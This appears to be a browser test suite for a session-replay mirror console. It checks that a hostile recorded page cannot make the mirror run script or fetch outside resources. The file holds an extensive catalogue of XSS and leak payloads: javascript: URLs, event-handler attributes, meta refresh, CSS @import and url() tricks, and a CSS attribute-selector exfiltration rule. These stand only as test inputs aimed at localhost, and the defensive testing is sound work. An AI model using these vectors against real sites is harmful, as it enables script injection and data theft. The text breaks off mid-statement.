// A hostile page's stream: whatever it says, the mirror asks for nothing but assets that the relay has announced, and runs
// no script. Tried under the console's content security policy, and without it, so that the mirror's own care is seen.
// Addresses of the console's own origin are used too: the policy would let some of them through.

import type { Browser, Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchChromium, launchFirefox } from '../support/browsers.ts';
import { startMirrorBench, type MirrorBench } from '../support/mirror-page.ts';
import { createRandom } from '../support/random.ts';

let bench: MirrorBench;
beforeAll(async () => {
  bench = await startMirrorBench();
});
afterAll(() => bench.close());

type Node = Record<string, unknown>;
let lastId = 0;
const text = (textContent: string): Node => ({ type: 3, id: ++lastId, textContent });
const element = (
  tagName: string,
  attributes: Record<string, unknown> = {},
  childNodes: Node[] = [],
  more: Node = {},
): Node => ({
  type: 2,
  id: ++lastId,
  tagName,
  attributes,
  childNodes,
  ...more,
});
const svg = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: Node[] = []) =>
  element(tagName, attributes, childNodes, { isSVG: true });

/** Each `evil()` is another address, so that a request tells which place let it out. */
function hostile(evil: (what: string) => string): { head: Node[]; body: Node[] } {
  const js = 'javascript:parent.HACKED=1;top.HACKED=1';
  const run = 'parent.HACKED=1;top.HACKED=1';
  const css = (name: string) => `#c{background:url(${evil(`css-${name}`)})}`;
  const urls = (tag: string, ...names: string[]) =>
    names.map((name) => element(tag, { [name]: evil(`${tag}-${name}`), rel: 'stylesheet', type: 'text/css' }));
  const head = [
    element('base', { href: evil('base'), target: '_top' }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil('refresh')}` }),
    element('meta', { content: `0;url=${evil('refresh-2')}`, 'http-equiv': 'REFRESH' }),
    element('meta', { 'http-equiv': 'Content-Security-Policy', content: `default-src *; report-uri ${evil('csp')}` }),
    element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
    element('meta', { name: 'viewport', 'http-equiv': 'refresh', content: `0;url=${evil('refresh-3')}` }),
    ...[
      'stylesheet',
      'alternate stylesheet',
      'preload',
      'prefetch',
      'dns-prefetch',
      'preconnect',
      'modulepreload',
      'icon',
      'manifest',
      'prerender',
      'expect',
      'import',
      'apple-touch-icon',
      'pingback',
      'Stylesheet X',
    ].flatMap((rel) => [
      element('link', {
        rel,
        href: evil(`link-${rel.replace(/ /g, '')}`),
        as: 'image',
        imagesrcset: evil('imagesrcset'),
      }),
      element('link', { href: evil(`link2-${rel.replace(/ /g, '')}`), as: 'script', rel }),
    ]),
    element('script', { src: evil('script') }, [text(run)]),
    element('script', { type: 'module', src: evil('module') }, [text(run)]),
    element('script', { type: 'speculationrules' }, [text(`{"prefetch":[{"urls":["${evil('speculation')}"]}]}`)]),
    element('script', { type: 'importmap' }, [text(`{"imports":{"a":"${evil('importmap')}"}}`)]),
    element('noscript', {}, [
      text(`<img src="${evil('noscript')}"><meta http-equiv=refresh content="0;url=${evil('noscript-refresh')}">`),
    ]),
    element('style', {
      _cssText: `@import url(${evil('import')});@import "${evil('import-2')}" screen;${css('text')}`,
    }),
    element('style', { _cssText: `@import url("data:text/css,${encodeURIComponent(css('data-import'))}");` }),
    element('style', {}, [text(`@import '${evil('import-3')}';${css('child')}`)]),
    element('link', {
      _cssText: `@IMPORT "${evil('import-4')}";${css('link')}`,
      rel: 'stylesheet',
      href: evil('link-css'),
    }),
    element('style', {
      _cssText: [
        `@font-face{font-family:evil;src:url(${evil('font')})}#c{font-family:evil}`,
        `#c{background:image-set("${evil('image-set')}" 1x)}`,
        `#c{--e:"${evil('var-set')}";border-image:image-set(var(--e) 1x)}`,
        `#c{--i:image-set("${evil('var-set-2')}" 1x);list-style-image:var(--i)}`,
        `#c{mask:u\\72l(${evil('escaped')})}`,
        `#c{cursor:url('${evil('cursor')}'),auto;filter:url(${evil('filter')}#a);clip-path:url(${evil('clip')}#a)}`,
        `#c::before{content:url(${evil('content')})}`,
        `input[value^="s"]{background:url(${evil('exfil')})}input[\\:value^="s"]{background:url(${evil('exfil-2')})}`,
        `@property --p{syntax:"<image>";inherits:false;initial-value:url(${evil('property')})}#c{background-image:var(--p)}`,
        `#c{background:src("${evil('src')}")}#c{background:image("${evil('image')}")}#c{background:cross-fade(url(${evil('fade')}) 50%,red)}`,
        `#c{shape-outside:url(${evil('shape')});float:left;offset-path:url(${evil('offset')}#p);-webkit-mask-box-image:url(${evil('box')})}`,
        `@media all{#c{background:url("${evil('media')}")}}@supports (a:b){}@layer x{#c{background:url(${evil('layer')})}}`,
        `@keyframes k{from{background:url(${evil('frames')})}}#c{animation:k 1s infinite}`,
        `#c{background-image:attr(data-url type(<url>));content:attr(data-url url)}`,
        `@namespace url(${evil('namespace')});@page{background:url(${evil('page')})}`,
      ].join('\n'),
    }),
  ];
  const body = [
    element(
      'div',
      {
        id: 'c',
        'data-url': evil('attr'),
        style: `background:url(${evil('style')});border-image-source:image-set("${evil('style-set')}" 1x)`,
      },
      [text('c')],
    ),
    element('input', { value: 'secret', type: 'text' }),
    ...urls('img', 'src', 'srcset', 'lowsrc', 'dynsrc', 'longdesc', 'attributionsrc'),
    element('img', { src: evil('img-js'), onload: run, onerror: run }),
    element('img', { src: 'x', onerror: run, crossorigin: '' }),
    element('picture', {}, [
      element('source', { srcset: `${evil('source')} 2x, ${evil('source-2')} 3x` }),
      element('img', { src: evil('picture') }),
    ]),
    ...urls('video', 'src', 'poster'),
    ...urls('audio', 'src'),
    element('video', { autoplay: '' }, [
      element('source', { src: evil('video-source'), type: 'video/mp4' }),
      element('track', { src: evil('track'), default: '', kind: 'captions' }),
    ]),
    element('iframe', { src: evil('iframe') }),
    element('iframe', { src: js }),
    element('iframe', { srcdoc: `<script>${run}</script><img src="${evil('srcdoc')}">` }),
    element('iframe', {
      rr_src: evil('rr-src'),
      loading: 'lazy',
      allow: 'autoplay',
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation',
    }),
    element('frame', { src: evil('frame') }),
    element('object', { data: evil('object'), type: 'text/html' }, [element('embed', { src: evil('object-embed') })]),
    element('embed', { src: evil('embed'), type: 'image/png' }),
    element('applet', { code: evil('applet'), archive: evil('archive') }),
    element('portal', { src: evil('portal') }),
    element('fencedframe', { src: evil('fenced') }),
    element('form', { action: evil('form'), autofocus: '' }, [
      element('input', { type: 'image', src: evil('input-image'), formaction: evil('formaction') }),
      element('input', { autofocus: '', onfocus: run }),
      element('button', { formaction: js, autofocus: '' }),
    ]),
    element('a', { href: evil('a'), ping: evil('ping'), attributionsrc: evil('a-attribution'), target: '_top' }, [
      text('a'),
    ]),
    element('a', { href: js }, [text('js')]),
    element('table', { background: evil('table') }, [element('td', { background: evil('td') })]),
    element('body', { background: evil('body'), onload: run }),
    element('html', { manifest: evil('manifest') }),
    element('marquee', { onstart: run, behavior: 'alternate' }, [text('m')]),
    element('details', { open: '', ontoggle: run }, [element('summary', {}, [text('s')])]),
    element('input', { type: 'text', onfocus: run, autofocus: '' }),
    element('div', { 'on click': run, '"><script>': run, __proto__: run, constructor: run }, [text('names')]),
    element('script><img src=x onerror=alert(1)>', {}, [text(run)]),
    element(
      'x-host',
      {},
      [
        element('style', { _cssText: `:host{background:url(${evil('shadow')})}` }, [], { isShadow: true }),
        element('img', { src: evil('shadow-img') }, [], { isShadow: true }),
      ],
      { isShadowHost: true },
    ),
    element('template', { shadowrootmode: 'open' }, [element('img', { src: evil('template') })]),
    svg('svg', { onload: run, viewBox: '0 0 9 9' }, [
      svg('image', { href: evil('svg-image'), 'xlink:href': evil('svg-xlink'), width: '9', height: '9' }),
      svg('use', { href: `${evil('use')}#a` }),
      svg('use', { 'xlink:href': `${evil('use-xlink')}#a` }),
      svg('use', {
        href: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" id="a"><image href="http://localhost/evil/"/></svg>#a',
      }),
      svg('script', { href: evil('svg-script') }, [text(run)]),
      svg('script', { 'xlink:href': evil('svg-script-xlink') }),
      svg('a', { 'xlink:href': js, href: js }, [svg('text', {}, [text('a')])]),
      svg('rect', {
        width: '9',
        height: '9',
        fill: `url(${evil('fill')}#a)`,
        filter: `url("${evil('svg-filter')}#a")`,
        mask: `url(${evil('mask')}#m)`,
        'clip-path': `url(${evil('svg-clip')}#m)`,
        style: `fill:url(${evil('svg-style')})`,
        cursor: `url(${evil('svg-cursor')})`,
      }),
      svg('rect', { fill: `u\\72l(${evil('svg-escaped')}#a)` }),
      svg('filter', { id: 'f' }, [svg('feimage', { href: evil('feimage'), 'xlink:href': evil('feimage-xlink') })]),
      svg('rect', { width: '9', height: '9', filter: 'url(#f)' }),
      svg('lineargradient', { href: `${evil('gradient')}#a` }),
      svg('textpath', { href: `${evil('textpath')}#a` }, [text('t')]),
      svg('image', { width: '9', height: '9', href: '' }, [
        svg('set', { attributeName: 'href', to: evil('set-href'), begin: '0s' }),
        svg('animate', { attributename: 'xlink:href', values: `${evil('animate')};${evil('animate-2')}`, dur: '1s' }),
      ]),
      svg('rect', { width: '9', height: '9' }, [
        svg('set', { attributeName: 'fill', to: `url(${evil('set-fill')}#a)` }),
        svg('animate', { attributeName: 'style', to: `fill:url(${evil('animate-style')})`, dur: '1s' }),
        svg('set', { attributeName: 'onclick', to: run }),
      ]),
      svg('a', {}, [svg('animate', { attributeName: 'href', values: js, dur: '1s' })]),
      svg('style', { _cssText: `rect{fill:url(${evil('svg-css')}#a)}@import "${evil('svg-import')}";` }),
      svg('foreignobject', {}, [
        element('iframe', { src: evil('foreign') }),
        element('img', { src: evil('foreign-img') }),
      ]),
      svg('handler', {}, [text(run)]),
    ]),
    element('math', {}, [
      element('mglyph', { src: evil('mglyph') }),
      element('mi', { href: js, 'xlink:href': js }, [text('x')]),
    ]),
  ];
  return { head, body };
}

function snapshotOf({ head, body }: { head: Node[]; body: Node[] }): unknown[] {
  const tree = {
    type: 0,
    id: ++lastId,
    childNodes: [
      { type: 1, id: ++lastId, name: 'html', publicId: '', systemId: '' },
      element('html', {}, [element('head', {}, head), element('body', {}, body)]),
    ],
  };
  return [
    { type: 4, data: { href: `${bench.origin}/page/evil`, width: 800, height: 600 }, timestamp: 1 },
    { type: 2, data: { node: tree, initialOffset: { left: 0, top: 0 } }, timestamp: 2 },
  ];
}

/** The same things, but coming later: as added nodes, as changed attributes, as rules, as keyframes. */
function later(events: unknown[], evil: (what: string) => string): unknown[] {
  const empty = element('div');
  const shell = snapshotOf({ head: [], body: [empty] });
  const changes: unknown[] = [];
  const { head, body } = hostile(evil);
  const mutation = (data: object) =>
    changes.push({ type: 3, data: { source: 0, texts: [], attributes: [], removes: [], adds: [], ...data } });
  for (const node of [...head, ...body]) {
    // Attributes one by one, each on an element that was harmless when it was made.
    const attributes = node.attributes as Record<string, unknown>;
    mutation({ adds: [{ parentId: empty.id, nextId: null, node: { ...node, attributes: {} } }] });
    for (const name of Object.keys(attributes))
      mutation({ attributes: [{ id: node.id, attributes: { [name]: attributes[name] } }] });
    for (const name of [
      'src',
      'href',
      'xlink:href',
      'srcset',
      'data',
      'poster',
      'srcdoc',
      'action',
      'rel',
      'style',
      '_cssText',
      'http-equiv',
      'content',
      'onclick',
      'rr_dataURL',
      'rr_src',
    ])
      mutation({
        attributes: [
          {
            id: node.id,
            attributes: {
              [name]:
                name === 'rel'
                  ? 'stylesheet'
                  : name === '_cssText'
                    ? `@import "${evil('late-css')}";`
                    : evil(`late-${name}`),
            },
          },
        ],
      });
    mutation({
      attributes: [
        {
          id: node.id,
          attributes: {
            style: {
              'background-image': `url(${evil('style-object')})`,
              '--x': [`url(${evil('style-object-2')})`, 'important'],
              'border-image-source': `image-set("${evil('style-set-object')}" 1x)`,
            },
          },
        },
      ],
    });
  }
  const sheet = element('style', { _cssText: '#x{}@media all{#x{}}' });
  mutation({ adds: [{ parentId: empty.id, nextId: null, node: sheet }] });
  const target = element('p', { id: 'c', style: '' }, [text('target')]);
  mutation({ adds: [{ parentId: empty.id, nextId: null, node: target }] });
  changes.push({
    type: 3,
    data: {
      source: 8,
      id: sheet.id,
      adds: [
        { rule: `#c{background:url(${evil('insert')})}`, index: 0 },
        { rule: `@import "${evil('insert-import')}"`, index: 0 },
        { rule: `#c{background:url(${evil('insert-nested')})}`, index: [2, 0] },
      ],
    },
  });
  changes.push({
    type: 3,
    data: {
      source: 13,
      id: sheet.id,
      index: [0],
      set: { property: 'background-image', value: `url(${evil('declaration')})`, priority: '' },
    },
  });
  changes.push({
    type: 3,
    data: {
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `#c{background:url(${evil('adopted-wrong-host')})}`, index: 0 }] }],
    },
  });
  // Its document.
  const document = (shell[1] as { data: { node: { id: number } } }).data.node.id;
  changes.push({
    type: 3,
    data: {
      source: 15,
      id: document,
      styleIds: [2],
      styles: [
        {
          styleId: 2,
          rules: [
            { rule: `#c{background:url(${evil('adopted')})}`, index: 0 },
            { rule: `@import "${evil('adopted-import')}"`, index: 1 },
          ],
        },
      ],
    },
  });
  changes.push({ type: 3, data: { source: 8, styleId: 2, replaceSync: `#c{background:url(${evil('replace')})}` } });
  const keyframes = [
    { backgroundImage: `url(${evil('keyframe')})`, offset: 0 },
    {
      backgroundImage: `image-set("${evil('keyframe-set')}" 1x)`,
      'border-image-source': `url(${evil('keyframe-border')})`,
    },
  ];
  changes.push({
    type: 5,
    data: {
      tag: 'animation',
      payload: {
        id: target.id,
        keyframes,
        timing: { duration: 1000, iterations: 9 },
        currentTime: 10,
        playState: 'running',
      },
    },
  });
  changes.push(
    { type: 3, data: { source: 3, id: document, x: 'a', y: {} } },
    { type: 3, data: { source: 5, id: target.id, text: {}, isChecked: 'x' } },
    { type: 3 },
    { type: 5 },
    null,
    7,
    {
      type: 3,
      data: { source: 14, ranges: [{ start: target.id, startOffset: 99999, end: target.id, endOffset: -5 }] },
    },
  );
  events.push(...shell);
  return changes;
}

async function settle(page: Page): Promise<void> {
  // Long enough for what was going to be asked for to have been asked for; not a time that anything is measured by.
  await page.evaluate(`new Promise((done) => setTimeout(done, 700))`);
}

const PAINTS = [
  'mask',
  'mask-image',
  '-webkit-mask',
  'filter',
  'backdrop-filter',
  'clip-path',
  'marker',
  'marker-start',
  'fill',
  'stroke',
  'background',
  'cursor',
  'content',
  'list-style',
  'border-image',
  'shape-outside',
  'offset-path',
];

/** An SVG file that asks for something in every way it can. */
function svgFile(evil: (what: string) => string): string {
  const paths = (where: string) =>
    PAINTS.map((paint) => `<path d="M0 0h9v9z" style="${paint}:url(${evil(`${where}-${paint}`)}#a)"/>`).join('');
  const all = (where: string) =>
    `<image href="${evil(`${where}-image`)}" width="9" height="9"/><use href="${evil(`${where}-use`)}#a"/>` +
    `<rect width="9" height="9" filter="url(${evil(`${where}-filter`)}#b)"/>${paths(where)}` +
    `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${evil(`${where}-img`)}" onerror="top.HACKED=1"/></foreignObject>` +
    `<style>@import url(${evil(`${where}-import`)});path{background:url(${evil(`${where}-style`)})}</style>` +
    `<script>parent.HACKED=1;top.HACKED=1</script><script href="${evil(`${where}-script`)}"/>` +
    `<set attributeName="href" to="${evil(`${where}-set`)}"/><a href="javascript:top.HACKED=1"><rect width="9" height="9"/></a>`;
  return (
    `<?xml version="1.0"?><?xml-stylesheet href="${evil('stylesheet')}" type="text/css"?>` +
    `<!DOCTYPE svg SYSTEM "${evil('doctype')}">` +
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="top.HACKED=1">` +
    `<style>@import url(${evil('import')});rect,svg{fill:red;background:url(${evil('style')})}</style>` +
    `<symbol id="x" onclick="top.HACKED=1">${all('symbol')}</symbol><mask id="m">${all('mask')}</mask>` +
    `<filter id="f"><feImage href="${evil('feimage')}"/></filter><clipPath id="c">${all('clip')}</clipPath>` +
    `<marker id="k">${all('marker')}</marker><linearGradient id="g" href="${evil('gradient')}#a"/></svg>`
  );
}

async function openSvgFiles(page: Page, evil: (what: string) => string): Promise<{ icons: number; hacked: string }> {
  const hash = 'f'.repeat(64);
  bench.assets.set(hash, { type: 'image/svg+xml', body: svgFile(evil) });
  const base = `${bench.origin}/page/x.svg`;
  const data = `data:image/svg+xml,${encodeURIComponent(svgFile(evil).replace(/<\?.*?\?>|<!DOCTYPE[^>]*>/g, ''))}`;
  const rules: string[] = [];
  const shapes: Node[] = [];
  for (const from of [base, data]) {
    for (const paint of PAINTS) {
      for (const id of ['m', 'f', 'c', 'k', 'g', 'x']) {
        const n = rules.length;
        rules.push(`.p${n}{${paint}:url("${from}#${id}")}`);
        shapes.push(svg('path', { class: `p${n}`, d: 'M0 0h9v9z' }), svg('path', { [paint]: `url("${from}#${id}")` }));
        if (n % 3 === 0) shapes.push(svg('rect', { width: '9', height: '9', style: `${paint}:url(${from}#${id})` }));
      }
    }
  }
  const boxes = rules.map((_rule, n) => element('div', { class: `p${n}`, style: 'width:9px;height:9px' }));
  const body = [
    svg('svg', { width: '99', height: '99' }, [
      svg('use', { href: `${base}#x` }),
      svg('use', { 'xlink:href': `${base}#x` }),
      svg('use', { href: `${data}#x` }),
      svg('image', { href: `${base}#x`, width: '9', height: '9' }),
      svg('filter', { id: 'own' }, [svg('feimage', { href: `${base}#x` }), svg('feimage', { href: `${data}#x` })]),
      svg('rect', { width: '9', height: '9', filter: 'url(#own)' }),
      svg('lineargradient', { id: 'lg', href: `${base}#g` }),
      svg('rect', { width: '9', height: '9', fill: 'url(#lg)' }),
      ...shapes,
    ]),
    element('img', { src: `${base}#x` }),
    element('img', { src: `${data}#x` }),
    ...boxes,
  ];
  const snapshot = snapshotOf({ head: [element('style', { _cssText: rules.join('\n') })], body });
  const asset = { url: base, hash, type: 'image/svg+xml' };
  for (const early of [false, true]) {
    await page.evaluate(
      `(async (snapshot, asset, early) => {
        if (!bench.mirror) bench.start();
        bench.assets([{ ...asset, url: early ? asset.url : 'http://none.example/' }]);
        bench.snapshot(snapshot); await bench.painted(); bench.assets([asset]); await bench.painted();
        for (let tries = 0; tries < 300 && !bench.document.querySelector('use[href^="#mirror-"]'); tries++) await new Promise((done) => setTimeout(done, 10));
      })(${JSON.stringify(snapshot)}, ${JSON.stringify(asset)}, ${early})`,
    );
    await settle(page);
  }
  return (await page.evaluate(
    `({ icons: bench.document.querySelectorAll('use > symbol path').length / ${PAINTS.length}, hacked: window.HACKED === undefined ? 'no' : 'yes' })`,
  )) as { icons: number; hacked: string };
}

for (const [name, launch] of [
  ['chromium', launchChromium],
  ['firefox', launchFirefox],
] as const) {
  describe(name, () => {
    let browser: Browser;
    beforeAll(async () => {
      browser = await launch();
    });
    afterAll(() => browser.close());

    describe.each([
      ['under the policy', true],
      ['without the policy', false],
    ])('%s', (_title, csp) => {
      let turn = 0;
      const evilFrom = (host: string) => {
        turn++;
        let count = 0;
        return (what: string) => `${host}/evil/${turn}/${++count}/${what}`;
      };
      const other = () => bench.origin.replace('127.0.0.1', 'localhost');

      async function show(snapshot: unknown[], changes: unknown[]) {
        bench.requests.length = 0;
        const page = await bench.console(browser, { csp });
        const errors: string[] = [];
        // Firefox reports the placeholder of a font that has not arrived: it is no font.
        page.on('pageerror', (error) => /downloadable font/.test(String(error)) || errors.push(String(error)));
        await page.focus('#operator');
        await page.evaluate(
          `(async (snapshot, changes) => { bench.start(); bench.snapshot(snapshot); await bench.painted(); for (const change of changes) bench.change([change]); await bench.painted(); })(${JSON.stringify(snapshot)}, ${JSON.stringify(changes)})`,
        );
        await settle(page);
        const state = await page.evaluate(
          `({ hacked: window.HACKED === undefined ? 'no' : 'yes', focus: document.activeElement.id, url: location.pathname, emitted: bench.emitted.filter((event) => event.kind === 'failed'), elements: bench.mirror.stats.elements })`,
        );
        await page.close();
        return {
          state: state as Record<string, unknown>,
          errors,
          evil: bench.requests.filter((url) => !url.startsWith('/asset/')),
        };
      }

      async function showSvgFiles(evil: (what: string) => string, csp: boolean) {
        bench.requests.length = 0;
        const page = await bench.console(browser, { csp });
        const { icons, hacked } = await openSvgFiles(page, evil);
        await page.close();
        const pictures = bench.requests.filter((url) => url.startsWith('/asset/')).length;
        return { icons, hacked, pictures, evil: bench.requests.filter((url) => !url.startsWith('/asset/')) };
      }

      async function showPieces(evil: (what: string) => string, csp: boolean) {
        const base = `${bench.origin}/page/`;
        const hash = 'e'.repeat(64);
        const picture = 'd'.repeat(64);
        bench.assets.set(hash, { type: 'text/css', body: '.s3{color:rgb(7,8,9)}' });
        bench.assets.set(picture, { type: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' });
        const tail = ` "/*" '*/ " {} *{background:url(${evil('tail')})} b{}'`;
        const first = text('.s2{color:red}');
        const second = text('q{}');
        const moved = text(`*{background:url(${evil('moved')})}`);
        const holder = element('div', { style: 'display:none' }, [moved]);
        const target = element('style', {}, [text('.s4{color:rgb(10,11,12)}')]);
        const backslash = `url(${base}x.png#\\\\)`;
        const snapshot = snapshotOf({
          head: [
            element('style', { _cssText: `@import "${base}a.css"${tail};.s1{color:rgb(1,2,3)}` }),
            element('style', { _cssText: `@import "${base}a.css" screen;` }),
            element('style', { _cssText: `*{background:u/* rr_split */rl(${evil('split')})}` }, [text(''), text('')]),
            element('style', { _cssText: `*{background:u/* rr_split */rl(${evil('split-one')})}` }),
            element('style', { _cssText: `//* rr_split */* "*/ *{background:url(${evil('split-comment')})} /*"` }, [
              text(''),
              text(''),
            ]),
            element('style', {}, [text('*{background:u'), text(`rl(${evil('nodes')})}`)]),
            element('style', {}, [first, second]),
            target,
            element('style', { _cssText: `*::before{content:${backslash} ") url(${evil('fragment')}) '"}` }),
          ],
          body: [
            holder,
            ...['s1', 's2', 's3', 's4'].map((name) => element('p', { class: name }, [text(name)])),
            element('p', {
              style: `background-image:${backslash};--q:") ;background-image:url(${evil('inline')});x:'"`,
            }),
            element('p', { style: `mask-image:${backslash};quotes:") ;background:url(${evil('quotes')});x:'" "b"` }),
          ],
        });
        const change = (data: object) => ({
          type: 3,
          data: { source: 0, removes: [], adds: [], texts: [], attributes: [], ...data },
        });
        const changes = [
          change({
            removes: [{ parentId: holder.id, id: moved.id }],
            adds: [{ parentId: target.id, nextId: null, node: moved }],
            texts: [
              { id: first.id, value: '.s2{color:rgb(4,5,6)}*{background:u' },
              { id: second.id, value: `rl(${evil('texts')})}` },
            ],
          }),
          change({ adds: [{ parentId: target.id, nextId: null, node: text('*{background:u') }] }),
          change({ adds: [{ parentId: target.id, nextId: null, node: text(`rl(${evil('late-nodes')})}`) }] }),
        ];
        const assets = [
          { url: `${base}a.css`, hash, type: 'text/css' },
          { url: `${base}x.png`, hash: picture, type: 'image/svg+xml' },
        ];
        bench.requests.length = 0;
        const page = await bench.console(browser, { csp });
        const shown = await page.evaluate(
          `(async (snapshot, changes, assets) => {
            bench.start(); bench.snapshot(snapshot); await bench.painted();
            bench.assets(assets); await bench.painted();
            for (const change of changes) { bench.change([change]); await bench.painted(); }
            const colors = () => ['s1', 's2', 's3', 's4'].map((name) => bench.document.defaultView.getComputedStyle(bench.document.querySelector('.' + name)).color);
            for (let tries = 0; tries < 300 && colors()[2] !== 'rgb(7, 8, 9)'; tries++) await new Promise((done) => setTimeout(done, 10));
            return colors();
          })(${JSON.stringify(snapshot)}, ${JSON.stringify(changes)}, ${JSON.stringify(assets)})`,
        );
        await settle(page);
        await page.close();
        return { shown, evil: bench.requests.filter((url) => !url.startsWith('/asset/')) };
      }

      // A control: without it, a server that nobody can reach would pass all of this.
      test('rrweb’s player asks for a lot of it', async () => {
        if (csp) return;
        bench.requests.length = 0;
        const page = await bench.console(browser, { csp });
        await page.evaluate(
          `(async (events) => { try { bench.replay(events); } catch {} })(${JSON.stringify(snapshotOf(hostile(evilFrom(other()))))})`,
        );
        await settle(page);
        await page.close();
        expect(bench.requests.filter((url) => url.startsWith('/evil/')).length).toBeGreaterThan(5);
      });

      test.each([
        ['another origin', other],
        ["the console's origin", () => bench.origin],
      ])('everything at once, addresses of %s', async (_what, host) => {
        const result = await show(snapshotOf(hostile(evilFrom(host()))), []);
        expect(result.evil).toEqual([]);
        expect(result.errors).toEqual([]);
        expect(result.state).toMatchObject({ hacked: 'no', focus: 'operator', emitted: [] });
        expect(result.state.elements).toBeGreaterThan(100);
      });

      test.each([
        ['another origin', other],
        ["the console's origin", () => bench.origin],
      ])('SVG files of the page, shown in every way, with addresses of %s in them', async (_what, host) => {
        const evil = evilFrom(host());
        const result = await showSvgFiles(evil, csp);
        expect(result.evil).toEqual([]);
        expect(result.hacked).toBe('no');
        // Those that can be shown are: the test would prove nothing with files that were never looked at.
        expect(result.icons).toBe(2);
        expect(result.pictures).toBeGreaterThan(0);
      });

      test('addresses that appear only when pieces of a sheet are put together', async () => {
        const evil = evilFrom(other());
        const result = await showPieces(evil, csp);
        expect(result.evil).toEqual([]);
        // What stood beside them in the same sheets is shown.
        expect(result.shown).toEqual(['rgb(1, 2, 3)', 'rgb(4, 5, 6)', 'rgb(7, 8, 9)', 'rgb(10, 11, 12)']);
      });

      test('everything later', async () => {
        const shell: unknown[] = [];
        const changes = later(shell, evilFrom(other()));
        const result = await show(shell, changes);
        expect(result.evil).toEqual([]);
        expect(result.errors).toEqual([]);
        expect(result.state).toMatchObject({ hacked: 'no', focus: 'operator', emitted: [] });
      });
    });

    test('random CSS lets nothing out', async () => {
      const seed = Number(process.env['TANDEM_SEED'] ?? 20261121);
      const { next: random } = createRandom(seed);
      const pick = (words: readonly string[]) => words[Math.floor(random() * words.length)] ?? '';
      let count = 0;
      const address = () => `http://localhost:${new URL(bench.origin).port}/evil/css/${++count}`;
      const words = [
        () => `url(${address()})`,
        () => `url("${address()}")`,
        () => `u\\72l(${address()})`,
        () => `image-set("${address()}" 1x)`,
        () => `"${address()}"`,
        () => `@import "${address()}";`,
        () => `@import url(${address()});`,
        () =>
          pick([
            '{',
            '}',
            '(',
            ')',
            '[',
            ']',
            ';',
            ':',
            ',',
            '"',
            "'",
            '/*',
            '*/',
            '\\',
            '\n',
            ' ',
            '!',
            '<!--',
            '-->',
            '#',
            '.',
            '@',
            '+',
            '-',
            '--x:',
            'url(',
            'URL(',
            'image-set(',
            'src(',
            'var(--x)',
            '\\\n',
            '\r\n',
            '\f',
            '\0',
            '\u00e9',
            '\\0',
            '\\26 ',
            '1e3',
            '1e',
            '10px',
            '5%',
            'U+26',
          ]),
        () =>
          pick([
            'div',
            'body',
            '*',
            '.a',
            '#b',
            ':hover',
            '::before',
            'background:',
            'background-image:',
            'content:',
            '--x:',
            'src:',
            '@media all',
            '@supports(a:b)',
            '@layer a',
            '@font-face',
            '@namespace',
            '@property --x',
            'red',
            '1x',
            '!important',
          ]),
        () => `div{background:url(${address()})}`,
        () => `*{background-image:image-set(`,
        () => `body{list-style:url('${address()}`,
        () => `div{--x:"${address()}";background:image-set(var(--x) 1x)}`,
      ];
      // What would leak, with a few pieces put in, cut out or doubled: most of these still leak when nothing is done.
      const leaks = [
        () => `*{background:url(${address()})}`,
        () => `*{background:url("${address()}")}`,
        () => `*{background:u\\52 L( ${address()} )}`,
        () => `*{background:image-set("${address()}" 1x)}`,
        () => `*{background:-webkit-image-set(url(${address()}) 1x)}`,
        () => `*{--x:"${address()}";background:image-set(var(--x) 1x)}`,
        () => `@import "${address()}";*{color:red}`,
        () => `@import url(${address()}) screen;`,
        () => `@media all{*{list-style:url('${address()}')}}`,
        () => `@font-face{font-family:e;src:url(${address()})}*{font-family:e}`,
        () => `*{color:red;&:hover,&{background:url(${address()})}}`,
        () => `*{--y:url(${address()});background:var(--y)}`,
        () => `*::before{content:url(${address()})}`,
        () => `*{mask:url(${address()});cursor:url("${address()}"),auto}`,
        () => `a[href]:hover,*{border-image:url("${address()}")}`,
        () => `background:url(${address()});mask-image:image-set("${address()}" 2x)`,
      ];
      const sheets: string[] = [];
      const at = (length: number) => Math.floor(random() * (length + 1));
      for (let n = 0; n < 600; n++) {
        let sheet = '';
        if (n % 3 === 0) for (let left = 2 + at(14); left > 0; left--) sheet += words[at(words.length - 1)]?.() ?? '';
        else {
          sheet = leaks[n % leaks.length]?.() ?? '';
          for (let left = at(3); left > 0; left--) {
            const place = at(sheet.length);
            const length = at(4);
            const what = random();
            if (what < 0.5) sheet = sheet.slice(0, place) + (words[7 + at(1)]?.() ?? '') + sheet.slice(place);
            else if (what < 0.7) sheet = sheet.slice(0, place) + sheet.slice(place + length);
            else sheet = sheet.slice(0, place + length) + sheet.slice(place);
          }
        }
        sheets.push(sheet);
      }
      bench.requests.length = 0;
      const page = await bench.console(browser, { csp: false });
      await page.evaluate(
        `(async (sheets) => {
          bench.start();
          let id = 10;
          for (let at = 0; at < sheets.length; at += 20) {
            const some = sheets.slice(at, at + 20);
            const style = (css) => ({ type: 2, id: ++id, tagName: 'style', attributes: { _cssText: css }, childNodes: [] });
            const inline = (css) => ({ type: 2, id: ++id, tagName: 'div', attributes: { class: 'a', id: 'b', style: css }, childNodes: [] });
            // Each in a shadow root of its own, so that one that spoils what follows spoils only itself.
            const host = (css) => ({ type: 2, id: ++id, tagName: 'div', isShadowHost: true, attributes: {}, childNodes: [{ ...style(css), isShadow: true }, { ...inline(css), isShadow: true }] });
            bench.snapshot([{ type: 4, data: { href: location.href, width: 800, height: 600 } }, { type: 2, data: { node: { type: 0, id: 1, childNodes: [{ type: 2, id: 2, tagName: 'html', attributes: {}, childNodes: [{ type: 2, id: 3, tagName: 'head', attributes: {}, childNodes: [style(some[0])] }, { type: 2, id: 4, tagName: 'body', attributes: {}, childNodes: some.map(host) }] }] }, initialOffset: {} } }]);
            await bench.painted();
          }
        })(${JSON.stringify(sheets)})`,
      );
      await settle(page);
      await page.close();
      expect(
